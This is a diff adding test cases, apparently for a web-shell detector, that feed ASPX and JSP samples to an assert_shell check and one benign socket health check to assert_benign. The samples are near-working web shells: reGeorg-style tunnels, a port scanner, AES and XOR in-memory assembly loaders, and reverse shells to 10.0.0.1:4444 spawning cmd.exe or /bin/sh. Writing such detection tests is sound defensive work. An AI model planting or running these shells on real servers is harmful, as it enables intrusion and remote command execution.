@@ -491,3 +491,57 @@ def test_benign_jsp_commons_upload_under_the_web_app():
                   ' File dir = new File(application.getRealPath("/uploads")); for (FileItem it : items) {'
                   " if (!it.isFormField()) it.write(new File(dir, UUID.randomUUID().toString())); }"
                   ' out.println(request.getParameter("note")); %>', "x.jsp")
+
+
+# --- tunnels, loaders and reverse shells ---------------------------------------------------------
+
+NET = {
+    "regeorg-aspx": ("x.aspx", '<%@ Page Language="C#" %><%@ Import Namespace="System.Net.Sockets" %><%'
+                     ' String cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") {'
+                     ' String target = Request.Headers.Get("X-TARGET"); int port = int.Parse(Request.Headers.Get("X-PORT"));'
+                     " Socket sock = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);"
+                     " sock.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(target), port));"
+                     ' Session.Add("socket", sock); } %>'),
+    "regeorg-jsp": ("x.jsp", '<% String cmd = request.getHeader("X-CMD"); if ("CONNECT".equals(cmd)) {'
+                    ' String target = request.getHeader("X-TARGET"); int port = Integer.parseInt(request.getHeader("X-PORT"));'
+                    " java.nio.channels.SocketChannel ch = java.nio.channels.SocketChannel.open();"
+                    " ch.connect(new java.net.InetSocketAddress(target, port)); session.setAttribute(\"socket\", ch); } %>"),
+    "portscan-aspx": ("x.aspx", '<%@ Page Language="C#" %><% string ip = Request["ip"]; foreach (string p in'
+                      " Request[\"ports\"].Split(',')) { try { var c = new System.Net.Sockets.TcpClient();"
+                      ' c.Connect(ip, int.Parse(p)); Response.Write(p + " open"); c.Close(); } catch {} } %>'),
+    "godzilla-aspx": ("x.aspx", '<%@ Page Language="C#"%><% string key = "3c6e0b8a9c15224a"; byte[] data ='
+                      ' System.Convert.FromBase64String(Context.Request["pass"]); data = new'
+                      " System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default"
+                      ".GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0,"
+                      ' data.Length); if (Context.Session["payload"] == null) { Context.Session["payload"] ='
+                      " (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod(\"Load\", new"
+                      " System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); } else { object o ="
+                      ' ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); } %>'),
+    "xor-loader-aspx": ("x.aspx", '<%@ Page Language="C#" %><script runat="server">byte[] X(byte[] d) {'
+                        " byte[] k = System.Text.Encoding.UTF8.GetBytes(\"k\"); for (int i = 0; i < d.Length; i++)"
+                        " d[i] ^= k[i % k.Length]; return d; } void Page_Load(object s, EventArgs e) {"
+                        ' var a = System.Reflection.Assembly.Load(X(Convert.FromBase64String(Request.Form["data"])));'
+                        ' Response.Write(a.CreateInstance("P").GetType().GetMethod("Run").Invoke(null, null)); }'
+                        "</script>"),
+    "reverse-const-aspx": ("x.aspx", '<%@ Page Language="C#" %><% var c = new System.Net.Sockets.TcpClient("10.0.0.1",'
+                           " 4444); var r = new System.IO.StreamReader(c.GetStream()); var p = new"
+                           ' System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";'
+                           " p.StartInfo.RedirectStandardInput = true; p.StartInfo.UseShellExecute = false; p.Start();"
+                           " while (true) { p.StandardInput.WriteLine(r.ReadLine()); } %>"),
+    "reverse-const-jsp": ("x.jsp", '<% java.net.Socket s = new java.net.Socket("10.0.0.1", 4444);'
+                          ' Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();'
+                          " java.io.InputStream si = s.getInputStream(); java.io.OutputStream po = p.getOutputStream();"
+                          " while (!s.isClosed()) { while (si.available() > 0) po.write(si.read()); po.flush(); } %>"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(NET))
+def test_network_tools(case):
+    name, text = NET[case]
+    assert_shell(text, name)
+
+
+def test_benign_aspx_health_check_socket():
+    assert_benign('<%@ Page Language="C#" %><% var c = new System.Net.Sockets.TcpClient();'
+                  ' c.Connect("db.internal", 5432); Response.Write(c.Connected ? "ok" : "down"); c.Close();'
+                  ' System.Diagnostics.Process.Start("logger.exe", "checked"); %>', "x.aspx")
